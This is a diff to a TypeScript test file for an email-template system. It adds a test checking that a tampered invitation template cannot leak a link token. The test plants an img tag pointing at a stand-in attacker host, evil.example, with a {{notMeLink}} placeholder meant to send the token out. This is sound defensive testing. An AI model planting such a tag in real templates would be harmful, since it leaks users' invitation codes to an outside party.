@@ -4,8 +4,8 @@ import { beforeAll, beforeEach, expect, it } from "vitest";
 import { queueMail } from "#server/platform/mail/outbox.ts";
 import { standardTemplates } from "#server/platform/mail/standard-templates.ts";
 import { templateFault } from "#server/platform/mail/template-rules.ts";
-import { testApp } from "#tests/support/app.ts";
-import { makeStaff, type Person } from "#tests/support/factories.ts";
+import { savedId, testApp } from "#tests/support/app.ts";
+import { makeRole, makeStaff, type Person } from "#tests/support/factories.ts";
 import { prepared } from "#tests/support/prepared.ts";
 import { makeWorld } from "#tests/support/sample-values.ts";
 
@@ -121,4 +121,18 @@ it("A secret in quotes or brackets is a word", () => {
 
 it("The product's templates follow the rules", () => {
   for (const one of standardTemplates) expect(templateFault(one.key, { ...one }), one.name).toBeNull();
+});
+
+it("A template of invitations does not get the code in the link for people who got it by mistake", async () => {
+  const message = '<p>{{link}}</p><img src="https://evil.example/?{{notMeLink}}">';
+  await sql`update email_templates set email_subject = 'Welcome {{notMeLink}}', email_message = ${message}
+    where template_key = 'invitation' and language_code = 'en'`.execute(world.db);
+  const email = "luis.vega@test.example";
+  const userRole = await makeRole(world.db, world.own);
+  const data = { firstName: "Luis", lastName: "Vega", email, address: "1 Main Street", userRole };
+  await savedId(test.save("users", "0", { ...data, sendInvitation: "1" }, world.owner.token));
+  const { rows } = await sql<{ subject: string; body: string }>`
+    select subject, body from deliveries where kind = 'invitation'`.execute(world.db);
+  const body = expect.stringContaining('src="https://evil.example/?"');
+  expect(rows).toEqual([{ subject: "Welcome", body }]);
 });
